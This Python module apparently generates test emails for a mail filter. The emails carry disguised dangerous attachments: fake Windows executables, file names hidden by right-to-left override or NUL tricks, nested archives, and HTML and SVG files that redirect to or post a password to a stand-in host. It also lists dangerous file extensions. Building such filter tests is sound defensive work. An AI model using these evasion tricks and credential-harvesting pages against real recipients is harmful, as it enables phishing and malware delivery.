"""Dangerous files under other names, types and wrappings (F23 to F27). These messages do not contain the spam's text."""

import base64
import gzip
import io
import tarfile
import zipfile

from .spam import coded, entity, many
from .transfer import uuencoded
from .trick import ATTACHED_PAGE, NAMED, NO, PROGRAM_FILE, YES, Trick

NOTE = b"Content-Type: text/plain; charset=utf-8\n\nHello,\n\nplease find the invoice attached.\n"
# The beginning of a Windows program: enough to be detected by content, not enough to run.
PROGRAM = (
    (
        b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8"
        + bytes(43)
        + b"\x80\0\0\0"
        + b"\x0e\x1f\xba\x0e\0\xb4\t\xcd!\xb8\1L\xcd!"
        b"This program cannot be run in DOS mode.\r\r\n$" + bytes(7)
    ).ljust(128, b"\0")
    + b"PE\0\0L\1"
    + bytes(200)
)
PAGE_FILE = (
    b'<html><script>var a="aHR0cDovLzIwMy4wLjExMy45Lw==";location=atob(a)</script>'
    b'<form action="http://203.0.113.9/p"><input type=password name=p></form></html>'
)
# File types that Outlook blocks and that run, install, connect or change something on a double click.
DANGEROUS = (
    "com scr pif bat cmd vb vbs vbe js jse wsf wsh wsc hta lnk url rdp scf shb shs msi msp mst msu cpl jar "
    "jnlp ps1 psm1 psc1 reg inf chm hlp vhd vhdx application appref-ms gadget msc xll wll library-ms search-ms "
    "settingcontent-ms appcontent-ms diagcab msix appx appinstaller ade adp mde mda xbap website theme py pyw "
    "pyz cab ace iqy slk sct ins isp job osd printerexport webpnp xnk csh ksh"
).split()


def with_file(name, data, value="application/octet-stream", disposition=None, coding="base64"):
    def make(spam):
        placed = disposition if disposition is not None else f'attachment; filename="{name}"'
        fields = (
            f"Content-Type: {value}\n"
            + (f"Content-Disposition: {placed}\n" if placed else "")
            + f"Content-Transfer-Encoding: {coding}\n"
        )
        return many(spam, [NOTE, entity(fields, coded(data, coding) if coding != "8bit" else data)], subject="Invoice")

    return make


BASES = {
    NAMED: with_file("invoice.exe", b"some bytes, not telling"),
    PROGRAM_FILE: with_file("invoice.exe", PROGRAM),
    ATTACHED_PAGE: with_file("invoice.html", PAGE_FILE, "text/html"),
}


def row(name, number, make, shown=YES, form=PROGRAM_FILE):
    return Trick(f"file: {name}", number, make, shown=shown, form=form)


def zipped(name, data=PROGRAM, before=b"", password=False):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name, (2026, 7, 6, 9, 0, 0)), data)
    octets = bytearray(out.getvalue())
    if password:  # only the flag is set: nothing unpacks it here
        octets[6] |= 1
        octets[octets.index(b"PK\1\2") + 8] |= 1
    return before + bytes(octets)


def tarred(name, data=PROGRAM, packed=""):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:" + packed) as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def mail(data=PROGRAM, name="invoice.exe"):
    return (
        f'From: a@example.net\nSubject: x\nMIME-Version: 1.0\nContent-Type: application/octet-stream; name="{name}"\n'
        "Content-Transfer-Encoding: base64\n\n"
    ).encode() + coded(data, "base64")


NAMES = {  # dispositions whose file name the recipient's program takes for an .exe
    "filename* wins": "attachment; filename=\"invoice.pdf\"; filename*=utf-8''invoice.exe",
    "filename* first": "attachment; filename*=utf-8''invoice.exe; filename=\"invoice.pdf\"",
    "filename* alone": "attachment; filename*=utf-8'en'invoice%2Eexe",
    "continuations": 'attachment; filename*0="invoi"; filename*1="ce.exe"',
    "continuations in odd order": 'attachment; filename*1=".exe"; filename*0="invoice"',
    "encoded continuations": "attachment; filename*0*=utf-8''invoice%2E; filename*1*=exe",
    "encoded word": 'attachment; filename="=?utf-8?q?invoice=2Eexe?="',
    "encoded word in base64": f'attachment; filename="=?utf-8?b?{base64.b64encode(b"invoice.exe").decode()}?="',
    "two encoded words": 'attachment; filename="=?utf-8?q?invoice=2E?= =?utf-8?q?exe?="',
    "trailing dot": 'attachment; filename="invoice.exe."',
    "trailing space": 'attachment; filename="invoice.exe "',
    "trailing dots and spaces": 'attachment; filename="invoice.exe. . ."',
    "nbsp at the end": "attachment; filename*=utf-8''invoice.exe%C2%A0",
    "upper case": 'attachment; filename="INVOICE.EXE"',
    "many spaces": f'attachment; filename="invoice.pdf{" " * 90}.exe"',
    "double extension": 'attachment; filename="invoice.pdf.exe"',
    "right-to-left override": "attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe",
    "no quotes": "attachment; filename=invoice.exe",
    "escapes": 'attachment; filename="invoice\\.e\\xe"',
    "a path": 'attachment; filename="C:\\\\a\\\\invoice.exe"',
    "a NUL": 'attachment; filename="invoice.exe\0.pdf"',
    "inline": 'inline; filename="invoice.exe"',
    "no semicolon": 'attachment filename="invoice.exe"',
    "full-width letters": "attachment; filename*=utf-8''invoice.%EF%BD%85%EF%BD%98%EF%BD%85",
    "an alternate stream": 'attachment; filename="invoice.exe::$DATA"',
    "invisible letter": "attachment; filename*=utf-8''invoice.e%E2%80%8Bxe",
    "folded": 'attachment;\n filename="invoice\n .exe"',
    "a charset of its own": "attachment; filename*=utf-16''%FE%FF%00i%00.%00e%00x%00e",
}
LINK = b"[InternetShortcut]\r\nURL=file://203.0.113.9/share/invoice.exe\r\n"
SVG = '<svg xmlns="http://www.w3.org/2000/svg"{}>{}</svg>'
PICTURES = {
    "onload": (" onload=\"location='http://203.0.113.9/'\"", ""),
    "script": ("", "<script>location='http://203.0.113.9/'</script>"),
    "script in CDATA": ("", "<script><![CDATA[location='http://203.0.113.9/']]></script>"),
    "script by href": (' xmlns:xlink="http://www.w3.org/1999/xlink"', '<script xlink:href="http://203.0.113.9/a.js"/>'),
    "foreignObject with a form": (
        "",
        '<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="http://203.0.113.9/p">'
        '<input type="password"/></form></foreignObject>',
    ),
    "animate to javascript": ("", '<a><animate attributeName="href" values="javascript:location=1"/><text>x</text></a>'),
    "a link of javascript": ("", '<a href="javascript:location=1"><text>x</text></a>'),
    "an event of a shape": ("", "<rect width='9' height='9' onmouseover=\"location='http://203.0.113.9/'\"/>"),
}


def pictures():
    for name, (attributes, content) in PICTURES.items():
        text = SVG.format(attributes, content)
        for codec in ("utf-8", "utf-16"):
            yield row(f"svg with {name}, {codec}", "F26", with_file("invoice.svg", text.encode(codec), "image/svg+xml"))
    text = SVG.format(*PICTURES["script"]).encode()
    yield row("svgz", "F26", with_file("invoice.svgz", gzip.compress(text, mtime=0), "image/svg+xml"))
    yield row("svg as text/xml", "F26", with_file("invoice.xml", text, "text/xml"))
    yield row("svg as octet-stream", "F26", with_file("invoice.svg", text))


def pages():
    for codec, mark in (
        ("utf-8", b""),
        ("utf-8", b"\xef\xbb\xbf"),
        ("utf-16-le", b"\xff\xfe"),
        ("utf-16-be", b"\xfe\xff"),
        ("utf-16-le", b""),
    ):
        data = mark + PAGE_FILE.decode().encode(codec)
        for name, value in (
            ("invoice.html", "text/html"),
            ("invoice.htm", "application/octet-stream"),
            ("invoice.xhtml", "application/xhtml+xml"),
            ("invoice.shtml", "text/plain"),
        ):
            label = codec + (" with BOM" if mark else "")
            yield row(
                f"page {name} as {value}, {label}",
                "F25",
                with_file(name, data, value),
                NO if codec == "utf-16-le" and not mark else YES,
                ATTACHED_PAGE,
            )
    yield row(
        "page with charset=utf-16",
        "F25",
        with_file("invoice.html", PAGE_FILE.decode().encode("utf-16-le"), "text/html; charset=utf-16"),
    )
    yield row(
        "page in UTF-7",
        "F25",
        with_file("invoice.html", PAGE_FILE.decode().encode("utf-7"), "text/html; charset=utf-7"),
        shown=NO,
    )
    yield row("page with empty lines first", "F25", with_file("invoice.html", b"\n" * 5000 + PAGE_FILE, "text/html"))
    yield row("page in a ZIP", "F25", with_file("invoice.zip", zipped("invoice.html", PAGE_FILE), "application/zip"))
    yield row(
        "page that refreshes",
        "F26",
        with_file("invoice.html", b'<meta http-equiv="refresh" content="0;url=http://203.0.113.9/">', "text/html"),
    )
    yield row(
        "mht",
        "F25",
        with_file(
            "invoice.mht",
            b"MIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n"
            + coded(PAGE_FILE, "base64"),
        ),
    )


ARCHIVES = {
    "a ZIP": ("a.zip", zipped("invoice.exe")),
    "a ZIP behind other octets": ("a.zip", zipped("invoice.exe", before=b"x" * 100)),
    "a ZIP with a password": ("a.zip", zipped("invoice.exe", password=True)),
    "a ZIP in a ZIP": ("a.zip", zipped("b.zip", zipped("invoice.exe"))),
    "a mail in a ZIP": ("a.zip", zipped("mail.eml", mail())),
    "a ZIP, as .js": ("a.zip", zipped("invoice.js", b"x")),
    "a ZIP, as .lnk": ("a.zip", zipped("invoice.lnk", b"x")),
    "a ZIP, with a last dot": ("a.zip", zipped("INVOICE.EXE.")),
    "a ZIP's folder, as .scr": ("a.zip", zipped("folder/invoice.scr")),
    "a ZIP named .docx": ("a.docx", zipped("invoice.exe")),
    "a ZIP named .dat": ("a.dat", zipped("invoice.exe")),
    "a tar": ("a.tar", tarred("invoice.exe")),
    "a tar.gz": ("a.tar.gz", tarred("invoice.exe", packed="gz")),
    "a gzip": ("invoice.exe.gz", gzip.compress(PROGRAM, mtime=0)),
    "a ZIP in a gzip": ("a.gz", gzip.compress(zipped("invoice.exe"), mtime=0)),
}


def tricks():
    for extension in DANGEROUS:
        yield row(
            f"bytes named .{extension}", "F23", with_file(f"invoice.{extension}", b"some bytes, not telling"), form=NAMED
        )
    for name, disposition in NAMES.items():
        hidden = name in ("full-width letters", "an alternate stream", "invisible letter", "a NUL", "no semicolon")
        yield row(f"name: {name}", "F24", with_file("", b"x", disposition=disposition), NO if hidden else YES, NAMED)
    for name, value in (
        ("name only in Content-Type", 'application/octet-stream; name="invoice.exe"'),
        ("name* in Content-Type", "application/octet-stream; name*=utf-8''invoice.exe"),
        ("x-msdownload without name", "application/x-msdownload"),
        ("as image/png", 'image/png; name="invoice.exe"'),
        ("as text/plain", 'text/plain; name="invoice.exe"'),
    ):
        yield row(name, "F24", with_file("", PROGRAM, value, ""))
    yield row("program named .pdf", "F27", with_file("invoice.pdf", PROGRAM, "application/pdf"))
    yield row("program without a name", "F27", with_file("", PROGRAM, disposition="attachment"))
    for wrapping in ("application/octet-stream", "message/rfc822"):
        yield row(f"program in mail.eml as {wrapping}", "F27", with_file("mail.eml", mail(), wrapping, coding="base64"))
        yield row(f"program in two mails as {wrapping}", "F27", with_file("mail.eml", mail(mail(), "b.eml"), wrapping))
    yield row(
        "program in an attached message",
        "F27",
        lambda spam: many(spam, [NOTE, b"Content-Type: message/rfc822\n\n" + mail()], subject="Invoice"),
    )
    for name, (file, data) in ARCHIVES.items():
        yield row(f"program in {name}", "F27", with_file(file, data))
    yield row("a link file named .url", "F26", with_file("invoice.url", LINK))
    yield row("a link file named .txt", "F26", with_file("invoice.txt", LINK, "text/plain"), shown=NO)
    yield row(
        "uuencoded program in the text",
        "F27",
        lambda spam: many(spam, [NOTE + b"\n" + uuencoded(PROGRAM, "invoice.exe")], subject="Invoice"),
    )
    yield row(
        "program as x-uuencode",
        "F27",
        lambda spam: many(
            spam,
            [
                NOTE,
                b'Content-Type: application/octet-stream\nContent-Disposition: attachment; filename="invoice.exe"\n'
                b"Content-Transfer-Encoding: x-uuencode\n\n" + uuencoded(PROGRAM, "invoice.exe"),
            ],
            subject="Invoice",
        ),
    )
    yield row(
        "program in base64;",
        "F27",
        lambda spam: BASES[PROGRAM_FILE](spam).replace(b"Encoding: base64", b"Encoding: base64;"),
    )
    yield from pages()
    yield from pictures()
